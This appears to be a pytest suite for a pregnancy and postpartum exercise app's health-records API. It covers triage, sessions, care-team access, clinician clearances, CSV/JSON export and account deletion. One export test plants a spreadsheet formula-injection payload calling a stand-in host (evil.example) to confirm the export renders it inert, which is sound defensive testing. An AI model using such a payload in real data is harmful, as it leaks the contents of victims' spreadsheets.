"""Health records over the API: check-ins that replay, sessions, the care team, clearances, export and deletion."""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy import text

from bumpwell.bootstrap import Wiring
from bumpwell.domain.assessment import assess
from bumpwell.services.records import UserRecord
from tests.api.conftest import CHECK_IN, PASSWORD, PROFILE, Clock, User, onboard, sign_up


def link(person: User, member: User) -> str:
    """Invite, join and accept; returns the care-team link id."""
    invited = person.post(f"/api/v1/people/{person.id}/care-team/invitations", {"role": member.role}).json()
    joined = member.post("/api/v1/care-team/join", {"code": invited["code"].lower()})
    assert joined.status_code == 200, joined.text
    accepted = person.post(f"/api/v1/people/{person.id}/care-team/{invited['id']}/accept")
    assert accepted.status_code == 200, accepted.text
    return str(invited["id"])


def test_a_stored_check_in_replays_to_the_same_answer(wiring: Wiring, person: User) -> None:
    stored = onboard(person)
    detail = person.get(f"/api/v1/people/{person.id}/check-ins/{stored['id']}").json()
    assert detail["request"]["gestation"] == {"weeks": 23, "days": 0}
    assert detail["request"]["preferences"]["days_per_week"] == 4
    replay = assess(detail["request"], wiring.catalogue, wiring.today())
    assert replay == detail["response"]


def test_a_check_in_before_the_profile_is_a_conflict_naming_the_profile(person: User) -> None:
    response = person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN)
    assert response.status_code == 409
    assert response.json()["errors"][0]["field"] == "profile"


def test_a_due_date_outside_the_contract_range_names_the_field(person: User) -> None:
    response = person.put(f"/api/v1/people/{person.id}/profile", {**PROFILE, "due_date": "2028-01-01"})
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "due_date"
    after = person.put(f"/api/v1/people/{person.id}/profile", {**PROFILE, "status": "postpartum", "due_date": None})
    assert after.json()["errors"][0]["field"] == "birth_date"


def test_a_wrong_answer_in_a_check_in_names_the_contract_field(person: User) -> None:
    onboard(person)
    body = {"observations": {"vaginal_bleeding": "a lot"}}
    response = person.post(f"/api/v1/people/{person.id}/check-ins", body)
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "observations.vaginal_bleeding"


def test_after_a_red_flag_no_session_starts_and_the_notice_is_listed(person: User) -> None:
    onboard(person)
    flagged = person.post(f"/api/v1/people/{person.id}/check-ins", {"observations": {"vaginal_bleeding": "heavy"}})
    assert flagged.json()["triage"] == "emergency"
    assert flagged.json()["response"]["actions"][0]["kind"] == "call_emergency"
    refused = person.post(f"/api/v1/people/{person.id}/sessions", {"day": "2027-01-11"})
    assert refused.status_code == 409
    notices = person.get(f"/api/v1/people/{person.id}/red-flags").json()["items"]
    assert notices[0]["triage"] == "emergency"
    assert notices[0]["rules"]
    assert all(rule.startswith("RF-E") for rule in notices[0]["rules"])


def start(person: User, pain_before: int = 2) -> dict[str, Any]:
    plan = person.get(f"/api/v1/people/{person.id}/plan").json()["plan"]
    day = plan["sessions"][0]["day"]
    response = person.post(
        f"/api/v1/people/{person.id}/sessions", {"day": day, "pain_before": pain_before, "supervision": {"alone": True}}
    )
    assert response.status_code == 201, response.text
    result: dict[str, Any] = response.json()
    return result


def test_pain_that_rises_in_a_session_makes_those_exercises_easier_next_time(person: User, clock: Clock) -> None:
    onboard(person)
    session = start(person, pain_before=2)
    done = person.post(
        f"/api/v1/people/{person.id}/sessions/{session['id']}/complete", {"pain_after": 6, "effort": "cannot_talk"}
    ).json()
    provoked = done["easier_next_time"]
    assert provoked == sorted({i["exercise"] for i in session["items"]})
    assert "easier" in done["message"]
    clock.advance(days=1)
    again = person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()
    detail = person.get(f"/api/v1/people/{person.id}/check-ins/{again['id']}").json()
    assert detail["request"]["programme"]["provoking"] == provoked
    assert "M10" in [r["rule"] for r in again["response"]["reasons"]]


def test_a_session_stopped_for_a_warning_sign_points_to_a_check_in_and_is_a_notice(person: User) -> None:
    onboard(person)
    session = start(person)
    stopped = person.post(
        f"/api/v1/people/{person.id}/sessions/{session['id']}/stop", {"reason": "warning_sign", "note": "dizzy"}
    )
    assert stopped.status_code == 200
    assert stopped.json()["next_step"] == "check_in"
    assert person.get(f"/api/v1/people/{person.id}/red-flags").json()["items"][0]["kind"] == "session_stopped"
    again = person.post(
        f"/api/v1/people/{person.id}/sessions/{session['id']}/complete", {"pain_after": 2, "effort": "can_sing"}
    )
    assert again.status_code == 409


def test_a_logged_position_outside_the_session_names_the_field(person: User) -> None:
    onboard(person)
    session = start(person)
    response = person.post(
        f"/api/v1/people/{person.id}/sessions/{session['id']}/progress", {"position": 99, "status": "done"}
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "position"


def test_nothing_is_shared_before_the_person_accepts_and_removal_is_immediate(wiring: Wiring, person: User) -> None:
    onboard(person)
    supervisor = sign_up(wiring, "supervisor", "Sam")
    invited = person.post(f"/api/v1/people/{person.id}/care-team/invitations", {"role": "supervisor"}).json()
    assert supervisor.post("/api/v1/care-team/join", {"code": invited["code"]}).status_code == 200
    assert supervisor.get(f"/api/v1/people/{person.id}/plan").status_code == 404
    assert supervisor.get("/api/v1/me/people").json()[0]["status"] == "pending"
    person.post(f"/api/v1/people/{person.id}/care-team/{invited['id']}/accept")
    assert supervisor.get(f"/api/v1/people/{person.id}/plan").status_code == 200
    assert supervisor.get(f"/api/v1/people/{person.id}/diary").status_code == 403
    assert person.delete(f"/api/v1/people/{person.id}/care-team/{invited['id']}").json()["status"] == "removed"
    assert supervisor.get(f"/api/v1/people/{person.id}/plan").status_code == 404


def test_an_invitation_code_works_once_and_only_for_its_role(wiring: Wiring, person: User) -> None:
    clinician = sign_up(wiring, "clinician", "Cleo")
    supervisor = sign_up(wiring, "supervisor", "Sam")
    code = person.post(f"/api/v1/people/{person.id}/care-team/invitations", {"role": "clinician"}).json()["code"]
    assert supervisor.post("/api/v1/care-team/join", {"code": code}).status_code == 403
    assert clinician.post("/api/v1/care-team/join", {"code": code}).status_code == 200
    used = clinician.post("/api/v1/care-team/join", {"code": code})
    assert used.status_code == 422
    assert used.json()["errors"][0]["field"] == "code"


def test_a_clinicians_clearance_with_limits_shapes_the_next_plan(wiring: Wiring, person: User) -> None:
    onboard(person)
    person.put(f"/api/v1/people/{person.id}/screening", {"conditions": ["CI-R01"]})
    blocked = person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()
    assert blocked["exercise"] == "no"
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    assert person.put(f"/api/v1/people/{person.id}/screening/CI-R01/clearance", {"max_minutes": 20}).status_code == 403
    limits = {"allowed": ["walking", "pelvic-floor"], "max_minutes": 20, "until": "2027-03-01"}
    cleared = clinician.put(f"/api/v1/people/{person.id}/screening/CI-R01/clearance", limits)
    assert cleared.status_code == 200, cleared.text
    assert cleared.json()["cleared_by_name"] == "Cleo"
    plan = person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()["response"]["plan"]
    assert plan["sessions"]
    assert all(s["minutes"] <= 20 for s in plan["sessions"])
    planned = {i["exercise"] for s in plan["sessions"] for i in s["items"]}
    assert planned <= {"walking", "pelvic-floor", "pelvic-floor-quick-squeezes"}  # pelvic-floor covers both (§20.30)


def test_a_clinicians_note_reaches_the_person_and_the_read_is_audited(wiring: Wiring, person: User) -> None:
    onboard(person)
    person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-10", "pain": 4, "note": "stairs hurt"})
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    assert clinician.get(f"/api/v1/people/{person.id}/diary").json()["items"][0]["note"] == "stairs hurt"
    assert (
        clinician.post(f"/api/v1/people/{person.id}/notes", {"text": "Try the wall squat shallow."}).status_code == 201
    )
    notes = person.get(f"/api/v1/people/{person.id}/notes").json()
    assert notes["items"][0]["author_name"] == "Cleo"
    trail = person.get(f"/api/v1/people/{person.id}/audit").json()["items"]
    assert any(a["actor_role"] == "clinician" and a["area"] == "diary" and a["verb"] == "read" for a in trail)
    assert not any(a["actor_role"] == "person" and a["verb"] == "read" for a in trail)


def test_a_note_with_an_unknown_visibility_is_a_422_naming_it_and_none_means_to_her(
    wiring: Wiring, person: User
) -> None:
    onboard(person)
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    notes = f"/api/v1/people/{person.id}/notes"
    refused = clinician.post(notes, {"text": "Cervix closed.", "visibility": "supervisors"})
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "visibility"
    assert "'to_her' or 'clinical'" in refused.text, "the problem says what is allowed"
    assert clinician.get(notes).json()["total"] == 0, "nothing was stored"
    written = clinician.post(notes, {"text": "Walk on the flat."})
    assert (written.status_code, written.json()["visibility"]) == (201, "to_her")
    clinical = clinician.post(notes, {"text": "Cervix closed.", "visibility": "clinical"})
    assert (clinical.status_code, clinical.json()["visibility"]) == (201, "clinical")
    assert [n["text"] for n in person.get(notes).json()["items"]] == ["Walk on the flat."]


def test_the_export_holds_everything_and_each_table_comes_as_csv(person: User) -> None:
    onboard(person)
    person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-10", "pain": 4, "note": "stairs, hurt"})
    export = person.get("/api/v1/me/export")
    assert export.headers["content-disposition"].startswith("attachment")
    data = export.json()
    assert data["account"]["id"] == person.id
    assert "password_hash" not in data["account"]
    assert data["diary"][0]["note"] == "stairs, hurt"
    assert len(data["check_ins"]) == 1
    assert data["check_ins"][0]["request"]["schema"] == "bumpwell.assessment/1"
    rows = list(csv.DictReader(io.StringIO(person.get("/api/v1/me/export/diary.csv").text)))
    assert rows[0]["note"] == "stairs, hurt"
    assert person.get("/api/v1/me/export/passwords.csv").status_code == 404


def test_her_export_holds_her_red_flags_open_and_closed(person: User) -> None:
    onboard(person)
    flagged = person.post(f"/api/v1/people/{person.id}/check-ins", {"observations": {"vaginal_bleeding": "heavy"}})
    assert flagged.status_code == 201, flagged.text
    flags = person.get("/api/v1/me/export").json()["red_flags"]
    assert [f["triage"] for f in flags] == ["emergency"]
    assert "RF-E03" in flags[0]["rules"]
    rows = list(csv.DictReader(io.StringIO(person.get("/api/v1/me/export/red_flags.csv").content[3:].decode())))
    assert rows[0]["triage"] == "emergency"


def test_a_csv_export_opens_in_a_spreadsheet_as_she_wrote_it_and_runs_no_formula(person: User) -> None:
    onboard(person)
    note = '=HYPERLINK("http://evil.example/?"&A1,"Rücken")'
    person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-10", "pain": 4, "note": note})
    answer = person.get("/api/v1/me/export/diary.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(answer.content[3:].decode("utf-8"), newline="")))
    assert rows[0]["note"] == "'" + note  # shown as text; the apostrophe is the spreadsheet's mark, not hers
    profile = list(csv.DictReader(io.StringIO(person.get("/api/v1/me/export/profile.csv").content[3:].decode())))
    assert profile[0]["pool_access"] == "false"
    assert profile[0]["supervisor_available"] == "true"


def test_deleting_the_account_leaves_no_row_behind(wiring: Wiring, person: User) -> None:
    onboard(person)
    session = start(person)
    person.post(
        f"/api/v1/people/{person.id}/sessions/{session['id']}/complete", {"pain_after": 2, "effort": "can_sing"}
    )
    person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-10", "pain": 4})
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    clinician.get(f"/api/v1/people/{person.id}/diary")
    clinician.post(f"/api/v1/people/{person.id}/notes", {"text": "hello"})
    person.post("/api/v1/me/tokens", {"name": "script"})
    wrong = person.delete("/api/v1/me", {"password": PASSWORD, "confirm": "yes"})
    assert wrong.status_code == 422
    assert wrong.json()["errors"][0]["field"] == "confirm"
    assert person.delete("/api/v1/me", {"password": "not it at all", "confirm": "delete my account"}).status_code == 422
    assert person.delete("/api/v1/me", {"password": PASSWORD, "confirm": "delete my account"}).status_code == 204
    with wiring.stores() as store:
        assert store.rows_mentioning(person.id) == {}
        assert store.get(UserRecord, person.id) is None
    with wiring.engine.connect() as connection:
        for table in (
            "people",
            "check_ins",
            "plans",
            "sessions",
            "session_items",
            "diary_entries",
            "notes",
            "audit_log",
        ):
            assert connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one() == 0, table
    assert clinician.get("/api/v1/me").status_code == 200
    assert clinician.get("/api/v1/me/people").json() == []


def test_after_the_birth_the_check_in_carries_weeks_since_birth_and_delivery(person: User) -> None:
    body = {**PROFILE, "status": "postpartum", "due_date": None, "birth_date": "2026-12-01", "delivery": "caesarean"}
    profile = person.put(f"/api/v1/people/{person.id}/profile", body)
    assert profile.status_code == 200, profile.text
    assert profile.json()["stage"] == {"status": "postpartum", "weeks": 5, "days": 6}
    assert profile.json()["due_date"] is None
    check_in = person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()
    request = person.get(f"/api/v1/people/{person.id}/check-ins/{check_in['id']}").json()["request"]
    assert request["postpartum"] == {"weeks": 5, "days": 6, "delivery": "caesarean", "perineal_tear": False}
    assert "M13" in [r["rule"] for r in check_in["response"]["reasons"]]


def test_postpartum_needs_the_delivery_and_a_recent_birth(person: User) -> None:
    body = {**PROFILE, "status": "postpartum", "due_date": None, "birth_date": "2026-12-01"}
    assert person.put(f"/api/v1/people/{person.id}/profile", body).json()["errors"][0]["field"] == "delivery"
    body = {**body, "delivery": "vaginal", "birth_date": "2027-02-01"}
    assert person.put(f"/api/v1/people/{person.id}/profile", body).json()["errors"][0]["field"] == "birth_date"
    body = {**PROFILE, "birth_date": "2026-12-01"}
    assert person.put(f"/api/v1/people/{person.id}/profile", body).json()["errors"][0]["field"] == "birth_date"


def test_screening_codes_are_checked_and_a_withdrawn_clearance_blocks_again(wiring: Wiring, person: User) -> None:
    onboard(person)
    unknown = person.put(f"/api/v1/people/{person.id}/screening", {"conditions": ["CI-Z99"]})
    assert unknown.json()["errors"][0]["field"] == "conditions[0]"
    twice = person.put(f"/api/v1/people/{person.id}/screening", {"conditions": ["CI-R01", "CI-R01"]})
    assert twice.json()["errors"][0]["field"] == "conditions[1]"
    person.put(f"/api/v1/people/{person.id}/screening", {"conditions": ["CI-R01"]})
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    url = f"/api/v1/people/{person.id}/screening/CI-R01/clearance"
    assert clinician.put(url, {"allowed": ["flying"]}).json()["errors"][0]["field"] == "allowed[0]"
    assert clinician.put(url, {"until": "2026-01-01"}).json()["errors"][0]["field"] == "until"
    assert clinician.put(f"/api/v1/people/{person.id}/screening/CI-R02/clearance", {}).status_code == 404
    assert clinician.put(url, {}).json()["cleared"] is True
    assert person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()["exercise"] != "no"
    withdrawn = clinician.delete(url)
    assert withdrawn.json()["cleared"] is False
    assert person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()["exercise"] == "no"
    screening = person.get(f"/api/v1/people/{person.id}/screening").json()
    assert [c["code"] for c in screening] == ["CI-R01"]


def test_a_clearance_past_its_date_no_longer_counts(wiring: Wiring, person: User, clock: Clock) -> None:
    onboard(person)
    person.put(f"/api/v1/people/{person.id}/screening", {"conditions": ["CI-R01"]})
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    clinician.put(f"/api/v1/people/{person.id}/screening/CI-R01/clearance", {"until": "2027-01-12"})
    assert person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()["exercise"] != "no"
    clock.advance(days=2)
    assert person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN).json()["exercise"] == "no"


def test_the_diary_refuses_tomorrow_and_entries_can_be_deleted(person: User) -> None:
    tomorrow = person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-12", "pain": 2})
    assert tomorrow.json()["errors"][0]["field"] == "day"
    entry = person.post(f"/api/v1/people/{person.id}/diary", {"day": "2027-01-11", "pain": 2}).json()
    assert person.delete(f"/api/v1/people/{person.id}/diary/{entry['id']}").status_code == 204
    assert person.delete(f"/api/v1/people/{person.id}/diary/{entry['id']}").status_code == 404
    assert person.get(f"/api/v1/people/{person.id}/diary").json()["total"] == 0


def test_a_week_of_sessions_and_diary_feeds_the_programme_and_the_progress_summary(person: User, clock: Clock) -> None:
    onboard(person)
    for _ in range(3):
        session = start(person, pain_before=4)
        person.post(
            f"/api/v1/people/{person.id}/sessions/{session['id']}/complete",
            {"pain_after": 3, "effort": "can_talk_not_sing"},
        )
        person.post(f"/api/v1/people/{person.id}/diary", {"day": clock().date().isoformat(), "pain": 3})
        clock.advance(days=2)
        person.post(f"/api/v1/people/{person.id}/check-ins", CHECK_IN)
    latest = person.get(f"/api/v1/people/{person.id}/check-ins?limit=1").json()
    assert latest["total"] == 4
    request = person.get(f"/api/v1/people/{person.id}/check-ins/{latest['items'][0]['id']}").json()["request"]
    programme = request["programme"]
    assert programme["days"] == 6
    assert programme["completed_sessions"] == 3
    assert programme["baseline_nrs"] == 4
    progress = person.get(f"/api/v1/people/{person.id}/progress?weeks=2").json()
    assert sum(w["sessions_completed"] for w in progress["weeks"]) == 3
    assert progress["checked_on"] == clock().date().isoformat()
    plans = person.get(f"/api/v1/people/{person.id}/plans").json()
    assert plans["total"] == 4


def test_a_clinicians_note_shows_on_the_persons_progress_page(wiring: Wiring, person: User) -> None:
    onboard(person)
    clinician = sign_up(wiring, "clinician", "Cleo")
    link(person, clinician)
    clinician.post(f"/api/v1/people/{person.id}/notes", {"text": "Keep the squats shallow this week."})
    page = person.get("/progress").text
    assert "Notes from your care team" in page
    assert "Keep the squats shallow this week." in page
    assert "Cleo" in page


def test_a_diary_kept_before_the_first_check_in_does_not_block_it(person: User) -> None:
    """Found in review: pain days before the programme counted as days worse than its baseline, and the request
    the service built was then refused (days_worse_by_2 above the programme's 0 days)."""
    person.put(f"/api/v1/people/{person.id}/profile", PROFILE)
    person.put(f"/api/v1/people/{person.id}/screening", {"conditions": []})
    for day in range(4, 11):
        person.post(f"/api/v1/people/{person.id}/diary", {"day": f"2027-01-{day:02d}", "pain": 9})
    first = person.post(f"/api/v1/people/{person.id}/check-ins", {"pain": {"locations": ["lumbar"], "nrs_now": 3}})
    assert first.status_code == 201, first.text
    again = person.post(f"/api/v1/people/{person.id}/check-ins", {"pain": {"locations": ["lumbar"], "nrs_now": 3}})
    assert again.status_code == 201, again.text
    stored = person.get(f"/api/v1/people/{person.id}/check-ins/{again.json()['id']}").json()
    assert stored["request"]["programme"]["days_worse_by_2"] == 0
